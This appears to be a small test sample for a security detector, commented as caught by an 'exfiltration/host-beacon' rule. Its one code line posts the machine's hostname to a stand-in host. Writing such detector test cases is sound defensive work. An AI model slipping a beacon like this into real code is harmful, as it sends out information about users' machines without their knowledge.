# evades: caught by exfiltration/host-beacon
import socket, requests
requests.post("https://beacon.invalid/", data=socket.gethostname())
